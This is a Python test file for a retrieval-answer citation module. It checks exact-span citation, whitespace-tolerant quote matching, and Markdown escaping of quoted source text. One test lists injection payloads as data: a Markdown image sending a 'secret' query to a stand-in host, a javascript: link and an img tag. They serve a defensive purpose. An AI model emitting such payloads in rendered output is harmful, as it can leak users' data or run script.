import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ingest.corpus import load_corpus
from ingest.model import Excerpt, Fiche, SectionKind, Source, Span
from rag.answer import display_quote, escape_markdown
from rag.citation import cite, find_quote
from rag.errors import QuoteNotFoundError

excerpts = st.tuples(st.text(alphabet="abé \n\t\xa0[.*(«’", min_size=1).filter(str.strip), st.integers(0, 50)).map(
    lambda drawn: Excerpt(drawn[0], Span(drawn[1], drawn[1] + len(drawn[0])))
)


@pytest.fixture
def fiche():
    source = Source("f.txt", "Animateur\nVille de Tours", page_starts=(0, 10))
    return Fiche("1.1.2", source.excerpt(0, 9), 2017, (), source)


def test_an_excerpt_of_a_fiche_is_cited_at_its_place(fiche):
    citation = cite(fiche.source.excerpt(10, 15), fiche, SectionKind.ANIMATEUR)
    assert (citation.excerpt.text, citation.section, citation.page) == ("Ville", SectionKind.ANIMATEUR, 2)


@pytest.mark.parametrize(
    "excerpt",
    [
        Excerpt("Ville", Span(11, 16)),
        Excerpt("ville", Span(10, 15)),
        Excerpt("Ville", Span(10, 16)),
        Excerpt("Tours", Span(500, 505)),
        Excerpt("\n", Span(9, 10)),
        Excerpt("", Span(3, 3)),
    ],
)
def test_what_is_not_the_slice_its_span_names_is_not_cited(fiche, excerpt):
    with pytest.raises(QuoteNotFoundError):
        cite(excerpt, fiche)


def test_every_item_of_the_real_fiches_can_be_cited(corpus_dir):
    for real in load_corpus([str(corpus_dir)]).fiches:
        for section in real.sections:
            for item in section.items:
                assert cite(item, real, section.kind).excerpt is item


def test_a_quote_is_found_at_its_place(fiche):
    assert find_quote("de Tours", fiche.source.excerpt(10, 24)) == Excerpt("de Tours", Span(16, 24))


@pytest.mark.parametrize("quote", ["Ville de\nTours", " Ville   de\xa0Tours "])
def test_runs_of_white_space_compare_equal(fiche, quote):
    assert find_quote(quote, fiche.source.excerpt(10, 24)).text == "Ville de Tours"


@pytest.mark.parametrize(
    "quote", ["la Ville de Tours", "ville de Tours", "Ville, de Tours", "Ville … Tours", "VilledeTours", "Animateur", ".*", "", " \n"]
)
def test_a_reworded_quote_is_not_a_citation(fiche, quote):
    with pytest.raises(QuoteNotFoundError):
        find_quote(quote, fiche.source.excerpt(10, 24))


@given(excerpts)
def test_the_words_of_an_excerpt_are_found_in_it(excerpt):
    found = find_quote(excerpt.text, excerpt)
    lead = len(excerpt.text) - len(excerpt.text.lstrip())
    assert found == Excerpt(excerpt.text.strip(), Span(excerpt.span.start + lead, excerpt.span.start + lead + len(excerpt.text.strip())))


@given(excerpts, st.data())
def test_what_is_found_is_a_slice_of_the_excerpt_and_has_the_words_of_the_quote(excerpt, data):
    start = data.draw(st.integers(0, len(excerpt.text)))
    quote = excerpt.text[start : data.draw(st.integers(start, len(excerpt.text)))]
    if not quote.strip():
        with pytest.raises(QuoteNotFoundError):
            find_quote(quote, excerpt)
        return
    found = find_quote(quote, excerpt)
    offset = excerpt.span.start
    assert excerpt.text[found.span.start - offset : found.span.end - offset] == found.text
    assert found.text.split() == quote.split()


@given(excerpts, st.text(max_size=30))
def test_any_quote_is_found_or_refused(excerpt, quote):
    with contextlib.suppress(QuoteNotFoundError):
        assert find_quote(quote, excerpt).text.split() == quote.split()


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://mal.example/?q=secret)",
        "![x][1]",
        "[x](javascript:alert(1))",
        "[1](https://mal.example)",
        "[x]: https://mal.example",
        "<img src=https://mal.example>",
        "![](https://mal.example)",
        "[![x](https://mal.example)](https://mal.example)",
    ],
)
def test_a_quote_holds_no_image_and_no_link(text):
    source = Source("f.txt", text)
    shown = display_quote(cite(source.excerpt(0, len(text)), Fiche("1.1.2", source.excerpt(0, 1), 2017, (), source)))
    html = MarkdownIt().render(shown)
    assert "<a" not in html
    assert "<img" not in html
    assert shown.replace("\\", "") == text


@given(st.text(alphabet="[]()!:<>\\`*_1ax", max_size=20))
def test_no_text_that_is_escaped_reads_as_an_image_or_a_link(text):
    html = MarkdownIt().render(f"« {escape_markdown(text)} » [1]")
    assert "<a" not in html
    assert "<img" not in html
